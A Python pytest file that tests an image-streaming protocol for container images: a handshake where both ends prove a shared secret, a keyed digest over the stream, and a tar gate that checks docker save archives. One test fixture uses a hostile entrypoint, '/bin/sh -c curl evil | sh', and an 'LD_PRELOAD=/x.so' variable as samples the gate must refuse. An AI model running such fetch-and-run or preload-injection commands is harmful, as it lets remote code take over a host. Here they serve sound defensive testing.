"""The image stream protocol (module_utils/_image_stream.py): both ends prove the run's secret, the
keyed digest catches an altered stream, and the tar gate holds back and checks the tag-bearing
members of a docker save archive."""
from __future__ import annotations

import hashlib
import io
import json
import socket
import tarfile
import threading

import pytest

from ansible_collections.lanekit.serving.plugins.module_utils._docker_cli import image_pin
from ansible_collections.lanekit.serving.plugins.module_utils._image_stream import (
    AUTH,
    DATA,
    MAGIC,
    StreamMac,
    StreamRefused,
    TarGate,
    client_handshake,
    config_digest_of_blob,
    config_digest_of_inspect,
    json_frame,
    new_nonce,
    read_json,
    server_handshake,
)

REF = "lanekit/thin:aaaaaaaaaaaa"
HASH = "a" * 64


def run_pair(server_side, client_side):
    left, right = socket.socketpair()
    left.settimeout(5)
    right.settimeout(5)
    outcome = {}

    def serve():
        try:
            outcome["server"] = server_side(left)
        except Exception as exc:  # noqa: BLE001 - the test inspects it
            outcome["server_error"] = exc

    thread = threading.Thread(target=serve)
    thread.start()
    try:
        outcome["client"] = client_side(right)
    except Exception as exc:  # noqa: BLE001
        outcome["client_error"] = exc
    right.close()
    thread.join(timeout=10)
    left.close()
    return outcome


def test_both_ends_with_the_secret_agree_on_a_session_key():
    out = run_pair(lambda s: server_handshake(s, "s3cret"),
                   lambda s: client_handshake(s, "s3cret", "node-1", {"content_hash": HASH, "have": []}))
    request, client, key = out["server"]
    assert request == {"content_hash": HASH, "have": []} and client == "node-1"
    assert out["client"] == key and len(key) == 32


def test_a_server_without_the_secret_is_refused_before_the_client_proves_anything():
    seen = []

    def fake_server(sock):
        seen.append(read_json(sock))
        sock.sendall(json_frame(AUTH, {"magic": MAGIC, "nonce": new_nonce(), "proof": "0" * 64}))
        sock.settimeout(1)
        try:
            seen.append(sock.recv(100))
        except TimeoutError:
            seen.append(b"(nothing)")

    out = run_pair(fake_server, lambda s: client_handshake(s, "s3cret", "n", {"content_hash": HASH}))
    assert isinstance(out["client_error"], StreamRefused)
    assert "could not prove it holds this run's secret" in str(out["client_error"])
    assert "proof" not in seen[0] and seen[1] in (b"", b"(nothing)")  # the client sent no proof


def test_a_server_speaking_the_old_protocol_is_refused():
    def old_server(sock):
        sock.recv(1000)
        sock.sendall(b'{"ok": true}\n' + bytes(100))

    out = run_pair(old_server, lambda s: client_handshake(s, "s3cret", "n", {}))
    assert isinstance(out["client_error"], StreamRefused)


def test_a_client_without_the_secret_is_refused():
    out = run_pair(lambda s: server_handshake(s, "s3cret"),
                   lambda s: client_handshake(s, "guess", "intruder", {"content_hash": HASH}))
    assert isinstance(out["client_error"], StreamRefused)  # it cannot check the server's proof either
    out = run_pair(lambda s: server_handshake(s, "s3cret"), _client_that_skips_the_server_check)
    assert isinstance(out["server_error"], StreamRefused) and "intruder" in str(out["server_error"])


def _client_that_skips_the_server_check(sock):
    sock.sendall(json_frame(AUTH, {"magic": MAGIC, "client": "intruder", "nonce": new_nonce()}))
    read_json(sock)
    sock.sendall(json_frame(AUTH, {"request": {"content_hash": HASH}, "proof": "f" * 64}))
    return read_json(sock)


def test_the_stream_digest_catches_an_altered_byte_and_a_short_stream():
    key = b"k" * 32
    sender = StreamMac(key)
    sent = sender.frame(DATA, b"hello world")
    end = json.loads(sender.end_frame()[9:])
    good = StreamMac(key)
    good.head(DATA, 11)
    good.update(sent[9:])
    good.check_end(end)
    altered = StreamMac(key)
    altered.head(DATA, 11)
    altered.update(b"hellO world")
    with pytest.raises(StreamRefused, match="altered"):
        altered.check_end(end)
    short = StreamMac(key)
    with pytest.raises(StreamRefused, match="announced 11"):
        short.check_end(end)


# -- the tar gate ---------------------------------------------------------------------------------
def config_blob(labels=None, entrypoint=("engine", "serve"), env=("A=1",)):
    layer = b"layer"
    return {"architecture": "amd64", "os": "linux",
            "config": {"Labels": {"io.lanekit.content-hash": HASH, **(labels or {})}, "Entrypoint": list(entrypoint),
                       "Env": list(env)},
            "rootfs": {"type": "layers", "diff_ids": ["sha256:" + hashlib.sha256(layer).hexdigest()]}}


def archive(tags=(REF,), blob=None, repositories=None, fmt=tarfile.USTAR_FORMAT, long_names=False, index=None):
    blob = json.dumps(blob or config_blob()).encode()
    digest = hashlib.sha256(blob).hexdigest()
    buf = io.BytesIO()
    layer_dir = ("x" * 120 + "/") if long_names else "layer0/"
    with tarfile.open(fileobj=buf, mode="w", format=fmt) as tar:
        def add(name, data):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
        add(layer_dir + "layer.tar", b"layer" * 1000)
        add(f"blobs/sha256/{digest}", blob)
        if index is not None:
            add("index.json", json.dumps(index).encode())
        manifest = [{"Config": f"blobs/sha256/{digest}", "RepoTags": list(tags), "Layers": [layer_dir + "layer.tar"]}]
        add("manifest.json", json.dumps(manifest).encode())
        if repositories is not None:
            add("repositories", json.dumps(repositories).encode())
    return buf.getvalue()


def through_gate(data, step=777, **pins):
    gate = TarGate(REF, HASH, **pins)
    out = bytearray()
    for start in range(0, len(data), step):
        out += b"".join(bytes(c) for c in gate.feed(data[start:start + step]))
    return gate, bytes(out)


@pytest.mark.parametrize("fmt,long_names", [(tarfile.USTAR_FORMAT, False), (tarfile.PAX_FORMAT, True),
                                            (tarfile.GNU_FORMAT, True)])
def test_the_gate_holds_the_manifest_back_until_checked(fmt, long_names):
    blob = config_blob()
    data = archive(fmt=fmt, long_names=long_names, repositories={"lanekit/thin": {"aaaaaaaaaaaa": "x"}})
    gate, early = through_gate(data, config=config_digest_of_blob(blob))
    with tarfile.open(fileobj=io.BytesIO(early + bytes(1024))) as tar:
        early_names = tar.getnames()
    assert "manifest.json" not in early_names and "repositories" not in early_names
    assert any(name.endswith("layer.tar") for name in early_names)
    gate.verify()
    with tarfile.open(fileobj=io.BytesIO(early + gate.finish())) as tar:
        names = tar.getnames()
        manifest = json.load(tar.extractfile("manifest.json"))
    assert manifest[0]["RepoTags"] == [REF] and "repositories" in names and names[-2:] == ["manifest.json", "repositories"]


@pytest.mark.parametrize("make,match", [
    (lambda: archive(tags=(REF, "evil/backdoor:latest")), "not only the pinned"),
    (lambda: archive(tags=("docker.io/library/ubuntu:22.04",)), "not only the pinned"),
    (lambda: archive(repositories={"lanekit/thin": {"aaaaaaaaaaaa": "x"}, "ubuntu": {"latest": "x"}}), "repositories"),
    (lambda: archive(index={"manifests": [{"annotations": {"io.containerd.image.name": "docker.io/library/ubuntu:x"}}]}),
     "index.json names"),
    (lambda: archive(blob=config_blob(labels={"io.lanekit.content-hash": "b" * 64})), "content hash"),
    (lambda: archive().rstrip(b"\0"), "end marker"),
])
def test_the_gate_refuses_an_archive_that_names_anything_else(make, match):
    gate, _early = through_gate(make())
    with pytest.raises(StreamRefused, match=match):
        gate.verify()


def test_the_gate_refuses_another_entrypoint_or_env_under_the_right_label_and_layers():
    pinned = config_digest_of_blob(config_blob())
    for other in (config_blob(entrypoint=("/bin/sh", "-c", "curl evil | sh")), config_blob(env=("LD_PRELOAD=/x.so",))):
        gate, _early = through_gate(archive(blob=other), config=pinned)
        with pytest.raises(StreamRefused, match="configuration"):
            gate.verify()


def test_the_gate_refuses_a_config_blob_that_does_not_match_its_name():
    data = bytearray(archive())
    at = data.find(b'"Entrypoint"')
    data[at + 1] = ord("e")
    gate, _early = through_gate(bytes(data))
    with pytest.raises(StreamRefused, match="does not match its own digest"):
        gate.verify()


def test_config_digest_is_the_same_from_inspect_and_from_the_blob():
    blob = config_blob()
    inspect = {"Architecture": "amd64", "Os": "linux", "Id": "sha256:whatever",
               "Config": dict(blob["config"], Hostname="", AttachStdin=False, OnBuild=None, Volumes=None),
               "RootFS": {"Type": "layers", "Layers": blob["rootfs"]["diff_ids"]}}
    assert config_digest_of_inspect(inspect) == config_digest_of_blob(blob) == image_pin(inspect)["config"]
    inspect["Config"]["Entrypoint"] = ["other"]
    assert config_digest_of_inspect(inspect) != config_digest_of_blob(blob)
